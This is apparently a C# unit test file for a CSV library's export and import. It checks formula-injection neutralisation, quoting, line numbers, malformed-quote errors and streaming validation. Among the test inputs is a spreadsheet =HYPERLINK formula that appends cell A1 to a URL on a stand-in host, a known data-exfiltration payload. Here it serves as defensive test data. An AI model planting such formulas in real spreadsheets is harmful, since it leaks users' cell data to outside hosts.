using System.Security.Cryptography;
using System.Text;
using Steward.Common;

namespace Steward.Tests.Common;

public class CsvTests
{
    [Theory]
    // Issue 11: text a spreadsheet would run gets a leading apostrophe; numbers stay numbers.
    [InlineData("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")")]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("-Alex Owner", "'-Alex Owner")]
    [InlineData("+44 1442 228000", "'+44 1442 228000")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tindented", "'\tindented")]
    [InlineData("\rreturn", "'\rreturn")]
    [InlineData("-2.1", "-2.1")]
    [InlineData("-15", "-15")]
    [InlineData("-", "'-")]
    [InlineData("-2.1e3", "'-2.1e3")]
    [InlineData("'=already", "''=already")]
    [InlineData("''=twice", "'''=twice")]
    [InlineData("'Twas the night", "'Twas the night")]
    [InlineData("Plain text", "Plain text")]
    [InlineData("", "")]
    [InlineData("91.36", "91.36")]
    public void Text_that_a_spreadsheet_would_run_is_neutralised_and_import_gives_it_back(string text, string exported)
    {
        Csv.Neutralise(text).ShouldBe(exported);
        Csv.Unneutralise(exported).ShouldBe(text);
    }

    [Theory]
    [InlineData("'=1+2", "=1+2")]
    [InlineData("'-2.1", "-2.1")]
    [InlineData("'Twas", "'Twas")]
    [InlineData("'", "'")]
    [InlineData("=1+2", "=1+2")]
    public void Import_strips_only_an_apostrophe_that_neutralises(string cell, string value) => Csv.Unneutralise(cell).ShouldBe(value);

    [Fact]
    public void One_writer_quotes_what_needs_quoting_and_neutralises_every_cell()
    {
        var text = CsvExport.ToText(csv =>
        {
            csv.Row("code", "comment");
            csv.Row("A,B", "say \"hi\"");
            csv.Row(" padded", "two\nlines");
            csv.Row(null, "=1+2");
        });
        text.ShouldBe("code,comment\n\"A,B\",\"say \"\"hi\"\"\"\n\" padded\",\"two\nlines\"\n,'=1+2\n");
    }

    [Fact]
    public void Records_carry_the_line_they_start_on()
    {
        using var reader = new CsvRecordReader(new MemoryStream("\r\n\r\na,b\r\n\"x\r\ny\",1\r\n,\r\n  ,\r\nlast,2"u8.ToArray()));
        var records = new List<CsvRecord>();
        while (reader.Next() is { } r) records.Add(r);
        records.Select(r => (r.Line, string.Join("|", r.Fields))).ShouldBe([(3, "a|b"), (4, "x\r\ny|1"), (8, "last|2")]);
    }

    [Theory]
    [InlineData("a,b\n1,\"open\n", 2, "a quoted field is not closed")]
    [InlineData("a,b\n1,\"x\"y\n", 2, "text follows a closing quote: put the whole field in quotes and double any quote inside it")]
    [InlineData("a,b\n\"p\nq\",x\"y\n", 3, "a quote inside an unquoted field: put the whole field in quotes and double the quote")]
    public void Malformed_quotes_name_their_line(string text, int line, string message)
    {
        using var reader = new CsvRecordReader(new MemoryStream(Encoding.UTF8.GetBytes(text)));
        var e = Should.Throw<MalformedCsvException>(() => { while (reader.Next() is not null) { } });
        (e.Line, e.Message).ShouldBe((line, message));
    }

    [Fact]
    public void The_line_of_bytes_that_are_not_UTF8_is_found_across_buffers()
    {
        var bytes = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("code,period,value\n", 10_000))).Concat(new byte[] { 0xA3, (byte)'\n' }).ToArray();
        Csv.LineOfInvalidUtf8(new MemoryStream(bytes)).ShouldBe(10_001);
        Csv.LineOfInvalidUtf8(new MemoryStream("a,b\n£1,2\n"u8.ToArray())).ShouldBeNull();
    }

    /// <summary>Counts how far a stream has been read.</summary>
    private sealed class Watched(Stream inner) : Stream
    {
        public long BytesRead { get; private set; }
        public override int Read(byte[] buffer, int offset, int count) { var n = inner.Read(buffer, offset, count); BytesRead += n; return n; }
        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => inner.Length;
        public override long Position { get => BytesRead; set => throw new NotSupportedException(); }
        public override void Flush() { }
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }

    [Fact]
    public void Issue_15_rows_stream_from_the_file_through_validation()
    {
        // 200,000 rows (about 5 MB): the first row is validated before more than a sliver of the file is read.
        var text = new StringBuilder("code,period,value\n");
        for (var n = 0; n < 200_000; n++) text.Append("HR05,2017-09,").Append(n).Append('\n');
        var bytes = Encoding.UTF8.GetBytes(text.ToString());
        var watched = new Watched(new MemoryStream(bytes));
        var errors = new ImportErrors();
        using var table = ImportTable.Read(new ImportFile("big.csv", () => watched), Steward.Features.Import.CsvImport.Kinds, errors)!;
        using var rows = table.Records.GetEnumerator();
        rows.MoveNext().ShouldBeTrue();
        rows.Current.Line.ShouldBe(2);
        watched.BytesRead.ShouldBeLessThan(bytes.Length / 20);
        var count = 1;
        while (rows.MoveNext()) count++;
        (count, table.RowCount, errors.Any).ShouldBe((200_000, 200_000, false));
        watched.BytesRead.ShouldBe(bytes.Length);
        table.Sha256().ShouldBe(Convert.ToHexStringLower(SHA256.HashData(bytes)));
        Should.Throw<InvalidOperationException>(() => table.Records.GetEnumerator().MoveNext());
    }
}
